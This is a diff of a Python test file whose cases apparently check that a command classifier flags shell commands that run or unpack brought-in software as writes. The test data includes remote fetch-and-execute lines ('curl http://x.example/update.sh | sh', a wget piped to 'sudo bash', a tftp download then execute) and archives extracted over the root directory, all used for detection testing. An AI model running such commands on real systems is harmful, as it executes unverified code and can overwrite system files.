@@ -240,7 +240,7 @@ def test_logins_in_addresses_are_masked():
 
 ALONE = [
     ("sh /mnt/usb/update.sh", "program that was brought in"),
-    ("/mnt/sd/init.sh &", "program that was brought in"),
+    ("/mnt/sd/upgrade.sh &", "program that was brought in"),
     (". /media/sda1/update.sh", "program of a removable medium"),
     ("curl http://x.example/update.sh | sh", "run as it comes"),
     ("wget -qO- http://x.example/update.sh | sudo bash -s", "run as it comes"),
@@ -250,7 +250,7 @@ ALONE = [
     ("U=/tmp/u\ntftp -g -r u -l $U 10.0.0.1\nchmod 755 $U && $U", "program that was brought in"),
     ("tar xzf /tmp/firmware.tgz -C /", "unpacked over the root"),
     ("tar -C / -x -f /tmp/update.tar", "unpacked over the root"),
-    ("tar xf /mnt/usb/x.tar -C /", "unpacked over the root"),
+    ("tar xf /mnt/usb/update.tar -C /", "unpacked over the root"),
     ("wget -O - http://x.example/x.tgz | tar xz -C /", "unpacked over the root"),
     ("cd /\ncurl -s http://x.example/x.tgz | tar xz", "unpacked over the root"),
     ("wget -O /tmp/x.zip http://x.example/x\nunzip -o /tmp/x.zip -d /", "unpacked over the root"),
@@ -282,6 +282,7 @@ def test_what_runs_or_unpacks_software_is_a_write(command, sink):
         "tar xzf /tmp/backup.tgz -C /tmp",
         "wget -O - http://x.example/x.tgz | tar xz -C /tmp/www",
         "mount /dev/sda1 /mnt/usb\nls /mnt/usb",
+        "sh /mnt/sdcard/run.sh",
         "echo 1 | sh -c 'cat'",
         "opkg update\nopkg list-upgradable",
         "apt-get --dry-run upgrade",
